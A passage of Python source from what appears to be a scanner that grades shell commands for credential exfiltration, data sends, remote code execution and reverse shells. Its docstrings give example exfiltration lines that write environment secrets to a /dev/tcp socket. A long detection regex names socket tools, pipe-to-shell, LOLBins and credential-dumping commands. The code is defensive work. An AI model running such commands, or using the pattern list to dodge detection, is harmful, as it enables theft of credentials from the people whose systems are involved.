                self.add(K.CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                         Severity.HIGH if grade not in ("ip", "paste", "http") else Severity.CRITICAL, url, grade, host)
                continue
            if secrets:
                name, in_header = secrets[0]
                if H.credential_goes_home(name, url) or grade in ("local", "vendor"):
                    continue
                if what == "http" and in_header and grade not in ("ip", "paste", "http"):
                    continue  # a key in its request's auth header: ordinary API use
                if what == "http" and not url:
                    continue
                sev = Severity.HIGH if grade in ("ip", "paste", "http", "lookalike") or what in ("dns", "gist", "mail", "ftp", "socket") else Severity.MEDIUM
                self.add(K.CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                         sev, url, grade, host)
                continue
            if public:
                self.add(K.CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
            elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
                self.add(K.CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)

    def dev_tcp_writes(self) -> None:
        """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it. A group
        or subshell redirected there (`{ cat; env; } > /dev/tcp/h/p`, `( ... ) >/dev/tcp/h/p`) writes
        everything its commands print: its body is read as the source."""
        spans = [(m.start(), m.end(), m.group(1), self.text(m, 2).lower()) for m in _DEV_TCP_WRITE.finditer(self.data)]
        for m in _DEV_TCP_GROUP.finditer(self.data):
            opener = _group_open(self.data, m.start())
            if opener >= 0:
                spans.append((opener, m.end(), self.data[opener:m.start()], self.text(m, 1).lower()))
        for b0, b1, body, host in spans:
            if _private(host):
                continue
            names = [n for n in (next((x for x in g.groups() if x), b"").decode("utf-8", "replace")
                                 for g in _SECRET_VAR.finditer(body)) if c.is_secret_env_name(n)]
            source = _CRED_COMMAND.search(body) is not None or _ENV_DUMP.search(body) is not None
            if names or source:
                self.add(K.CRED_EXFIL, b0, b1, f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
                         Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
            elif self.unattended:
                self.add(K.HOST_DATA_EXFIL, b0, b1, f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)

    def _piped_between(self, a: int, b: int) -> bool:
        """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
        between = self.data[a:b].replace(b"||", b"")
        return b"|" in between

    def secret_vars(self, seg: str, s0: int) -> list[tuple[str, bool]]:
        out = []
        for m in _SECRET_VAR.finditer(seg.encode("utf-8", "surrogatepass")):
            name = next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
            if not c.is_secret_env_name(name):
                continue
            before = seg.encode("utf-8", "surrogatepass")[:m.start()]
            flag = before.rsplit(b" -", 1)[-1][:12].lower() if b" -" in before else b""
            in_header = flag.startswith((b"h ", b"h\"", b"h'", b"-header", b"u ", b"-user", b"headers")) or b"authorization" in before[-60:].lower() \
                or b"bearer" in before[-20:].lower() or b"token " in before[-20:].lower()
            out.append((name, in_header))
        return out

    # -- unattended: an index on a stranger, data sent from input/history/files, secrets in URLs
    def indexes(self) -> None:
        """`pip install --index-url URL`, `npx --registry URL`, `uvx --index-url URL`: every package comes
        from that host; a bare IP or a look-alike of a registry's brand there is an attack."""
        for m in _INDEX_FLAG.finditer(self.data):
            url = self.text(m, 1)
            host = H.host_of(url)
            if host and (H.is_ip(host) and not _private(host) or H.look_alike_brand(host)):
                _, grade, host = self.url_grade(url)
                self.add(K.REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)

    def inline_send(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
        """Unattended: a one-liner that reaches a stranger's host with secrets (read broadly: any
        environment read, credential path or keychain) or with data it posts."""
        low = seg.lower()
        url = next((u for u in _urls_loose(seg.decode("utf-8", "replace")) if not _private(H.host_of(u))), "")
        if not url:
            return
        _, grade, host = self.url_grade(url)
        if grade in ("vendor", "local"):
            return
        if _INLINE_SECRET.search(low) is not None:
            self.add(K.CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
                     Severity.CRITICAL, url, grade, host)
        elif _INLINE_SEND.search(low) is not None:
            self.add(K.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)

    def sends(self) -> None:
        """A request that carries the command's input, history, files or command output, or a
        secret spliced into its URL, to a host that is not the secret's vendor."""
        d = self.data
        for url in _urls_loose(self.command):
            host = H.host_of(url)
            if not host or _private(host):
                continue
            names = [n for n in (next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
                                 for m in _SECRET_VAR.finditer(url.encode("utf-8", "surrogatepass"))) if c.is_secret_env_name(n)]
            names = [n for n in names if not H.credential_goes_home(n, url)]
            if names and not self._covered((K.CRED_EXFIL,), Severity.HIGH):
                sev, grade, host = self.url_grade(url)
                if grade not in ("vendor", "local"):
                    self.add(K.CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
                             Severity.CRITICAL if grade in ("ip", "paste", "http", "lookalike") else Severity.HIGH, url, grade, host)
        if self._covered((K.CRED_EXFIL, K.REMOTE_EXEC, K.REVERSE_SHELL), Severity.HIGH):
            return
        for m in _SENDER.finditer(d):
            eol = len(d)
            for stop in (b"\n", b";", b"&&", b"||"):
                i = d.find(stop, m.end())
                eol = min(eol, i) if i >= 0 else eol
            seg = d[m.start():eol]
            url = _first_url(seg.decode("utf-8", "replace")) or next(iter(_urls_loose(seg.decode("utf-8", "replace"))), "")
            host = H.host_of(url) if url else ""
            sock = _SOCKET_TARGET.search(seg)
            copy = _COPY_TARGET.search(seg) if sock is None and not host else None
            if copy is not None:
                sock = copy
            if not host and sock is not None:
                host = next((g for g in sock.groups() if g), b"").decode("utf-8", "replace")
                url = f"tcp://{host}"
            if not host or _private(host) or "." not in host and not H.is_ip(host):
                continue
            _, grade, host = self.url_grade(url)
            if grade in ("vendor", "local"):
                continue
            before = d[max(0, m.start() - 60):m.start()]
            piped = _PIPED_BEFORE.search(before) is not None
            in_url = b"$(" in url.encode() or b"`" in url.encode()
            flags = _SEND_FLAGS.search(self.command.encode("utf-8", "surrogatepass")[m.start():eol]) is not None or sock is not None
            if not (piped or in_url or flags):
                continue
            local = piped or in_url or _STDIN_DATA.search(seg) is not None or _LOCAL_DATA.search(d[:eol]) is not None
            if copy is not None and not piped:
                continue  # a copy of a named file to a server is a deploy; one of what the command is handed is a send
            if local:
                sev = Severity.MEDIUM if _known_service(host) else Severity.HIGH
                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
                         sev, url, grade, host)
            elif not _known_service(host):  # a request to a well-known service's own API is its ordinary use
                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
                         Severity.HIGH if grade in ("lookalike", "ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
            return

    def _covered(self, kinds, floor: Severity = Severity.MEDIUM) -> bool:
        return any(f.kind in kinds and f.severity >= floor for f in self.facts)

    # -- structure (tree-sitter-bash) --------------------------------------------------------
    def structure(self) -> None:
        if not any(k in self.data for k in (b"$", b"`", b"<(", b"=")):
            return  # nothing a pattern could not see
        from .shell.flow import analyze_text

        try:
            found = analyze_text(self.command)
        except (RecursionError, MemoryError, ValueError):
            return
        for f in found:
            if f.kind not in (K.REMOTE_EXEC, K.DECODE_EXEC, K.REVERSE_SHELL, K.CRED_EXFIL):
                continue
            if f.kind == K.CRED_EXFIL and f.severity <= Severity.LOW:
                continue
            if any(x.kind == f.kind and x.start < f.end and f.start < x.end for x in self.facts):
                continue
            url = f.properties.get("url", "")
            sev, grade, host = f.severity, "", H.host_of(url) if url else ""
            if f.kind == K.REMOTE_EXEC:
                sev, grade, host = self.url_grade(url)
            self.facts.append(CommandFact(f.kind, sev, f.start, f.end, f.message, host, url, grade))

    def result(self) -> list[CommandFact]:
        out: list[CommandFact] = []
        for f in sorted(self.facts, key=lambda f: (f.start, -int(f.severity))):
            dup = next((i for i, x in enumerate(out) if x.kind == f.kind and x.start < f.end and f.start < x.end), None)
            if dup is None:
                out.append(f)
            elif f.severity > out[dup].severity:
                out[dup] = f
        return out


# Lines of a longer text worth grading (a shell script, a code block): a command word the
# shell-structure analysis does not read (one-liners, runners, PowerShell, socket tools, token CLIs).
# Written for a small automaton (few unbounded loops): it runs over every line of every script and prose file.
TRIGGER = (
    r"\b(?:python[23]?|node|ruby|perl|php|bun)(?:\.exe)?\s+(?:-\S+\s+)*-(?:c|e|r|p)\s|\bdeno\s+(?:run|install|eval)\b|"
    r"\b(?:npx|bunx|pnpx|dlx|uvx|pipx|uv\s+(?:tool\s+)?run)\b[^\n]*(?:github:|gitlab:|git\+|git@|https?://|#)|"
    r"\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da|fi)?sh\b|source\b|[\"']?\$\{?SHELL)|<\(\s*(?:curl|wget)|\$\(\s*(?:curl|wget)|\biex\b|invoke-expression|scriptblock|"
    r"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)\s+(?:\S+\s+)*-[ec]\s|\bsocat\b|s_client|\bmkfifo\b|tcpclient|"
    r"credential(?:-\w+)?\s+(?:fill|get)|\bauth\s+token\b|find-(?:generic|internet)-password|print-(?:access|identity)-token|"
    r"get-access-token|export-credentials|\bgist\s+create\b|\bbase(?:64|32)\s+-|frombase64|"
    r"\b(?:gh|glab)\s+(?:issue|pr|mr|release|discussion)\s+(?:comment|create|edit|note|upload)\b[^\n]*\s(?:--body-file|-[fF]|--notes-file|--description-file|--body|-b|--notes|--description)[\s=]|"
    r"\b(?:install|add|i)\s+(?:-\S+\s+)*(?:\S+\s+@\s+)?(?:git\+|https?://|github:)|mshta|regsvr32|certutil|bitsadmin|<<<|/inet/tcp|"
    r"\b(?:s3\s+(?:cp|sync)|gsutil|rclone|smbclient)\b|-outfile\b|"
    r"\b(?:curl|wget|http|xh)\s[^\n]*\s(?:-d|--data[\w-]*|-f|--form|-t|--upload-file|--json|-k|--config)[\s=]|"
    r"\b(?:dig|nslookup|host|drill)\s[^\n]*(?:\$\(|`)|"
    r"\bgosumdb\s*=\s*['\"]?off|\bgonosumcheck\s*=|\bgoinsecure\s*=|\bgoflags\s*=\s*['\"]?[^\s'\"]*-insecure|"
    r"\bgo\s+run\s[^\n]*@(?:latest|master|main|head)\b"
)
_LINE_TRIGGER = rx(r"(?i)(?:" + TRIGGER + r")")
_PRINTED = ("echo ", "printf ", "print ", "log ", "info ", "warn ", "say ", "cat <<", "#", "//", "write-")  # write-: PowerShell's Write-Host/-Output/-Warning and a script's own Write-Err


def grade_lines(text: str, limit: int = 300) -> list[CommandFact]:
    """The grader over each candidate line of a longer text, offsets into `text`. A line that only
    prints a command (echo, printf, a comment) is lowered two steps: shown, not run."""
    data = text.encode("utf-8", "surrogatepass")
    to_char = _b2c(text, data)
    out: list[CommandFact] = []
    seen: set[int] = set()
    for n, m in enumerate(_LINE_TRIGGER.finditer(data)):
        if n >= limit:
            break
        b0 = data.rfind(b"\n", 0, m.start()) + 1
        if b0 in seen:
            continue
        seen.add(b0)
        b1 = data.find(b"\n", m.start())
        b1 = len(data) if b1 < 0 else b1
        line = data[b0:b1].decode("utf-8", "replace")
        base = to_char(b0)
        printed = line.lstrip().lower().startswith(_PRINTED)
        for f in grade_command(line):
            sev = max(f.severity.lowered(2), min(f.severity, Severity.LOW)) if printed else f.severity
            out.append(CommandFact(f.kind, sev, base + f.start, base + f.end, f.message + (" (printed, not run)" if printed else ""),
                                   f.host, f.url, f.grade))
    return out


_unescape = c.unescape  # the shell analysis reads the same escapes (scripts/common)
